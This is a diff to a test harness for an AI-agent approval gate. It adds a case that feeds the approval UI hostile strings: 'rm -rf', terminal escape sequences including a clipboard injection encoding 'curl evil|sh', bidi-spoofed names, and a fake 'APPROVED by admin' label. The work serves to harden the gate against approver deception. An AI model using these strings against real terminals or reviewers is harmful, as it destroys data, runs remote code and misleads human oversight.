@@ -4,6 +4,7 @@
                                   transfers (allow), large transfers (approval, share SHARE); one
                                   JSON line per call: nonce, expected verdict, observed outcome.
 ``hold DB RULES``                 one call needing approval; prints CALLING then waits (to be killed).
+``hostile DB RULES``              one approval call with escape sequences and a 10 MB string.
 ``cli-decider DB STOP SEED``      loop the real CLI (``pending --json`` then ``approve``/``deny``)
                                   in-process until the file STOP exists; prints a JSON summary.
 ``decide-pause DB ID``            run the store's decide up to (not including) COMMIT, print
@@ -118,6 +119,38 @@ def hold(db: str, rules: str) -> int:
         transfer_funds(5000, "acct-x", "hold")
     except Exception as exc:
         _say(f"ENDED {type(exc).__name__}: {exc}")
+    return 0
+
+
+EVIL = (
+    "rm -rf ~/x \x1b]0;PWNED-TITLE\x07 \x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b[2J\x1b[1A "
+    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \r\x08\x07\x7f\x9b31m "
+    "\u202eexe.txt \u2066iso\u2069 zero\u200bwidth [b]APPROVED by admin[/b] [@click=app.quit]x[/]"
+)
+
+
+def hostile(db: str, rules: str) -> int:
+    """One approval call whose function name, agent id and arguments are hostile text."""
+    from sentinel.config import SentinelConfig
+    from sentinel.errors import SentinelBlockedError
+    from sentinel.protect import protect
+
+    config = SentinelConfig(
+        rules_path=rules, db_path=db, agent_id="agent\x1b]0;evil\x07\u202e", timeout_seconds=120,
+        show_waiting_hint=True, hot_reload=False, audit_log=True,
+    )  # fmt: skip
+
+    def transfer_funds(amount: int, to: str, memo: str, blob: str) -> int:
+        _say("RAN")
+        return amount
+
+    transfer_funds.__name__ = "transfer_\x1b[2J\u202efunds"
+    guarded = protect(config)(transfer_funds)
+    _say("CALLING")
+    try:
+        guarded(5000, EVIL, {"nested": EVIL, EVIL: [EVIL]}, "A" * 10_000_000)  # type: ignore[arg-type]
+    except SentinelBlockedError as exc:
+        _say(f"ENDED {type(exc).__name__}")
     return 0
 
 
@@ -244,6 +277,8 @@ def main(argv: list[str]) -> int:
         return tui_decider(argv[1])
     if cmd == "mixed":
         return mixed(argv[1], argv[2], int(argv[3]), int(argv[4]), float(argv[5]))
+    if cmd == "hostile":
+        return hostile(argv[1], argv[2])
     if cmd == "hold":
         return hold(argv[1], argv[2])
     if cmd == "cli-decider":
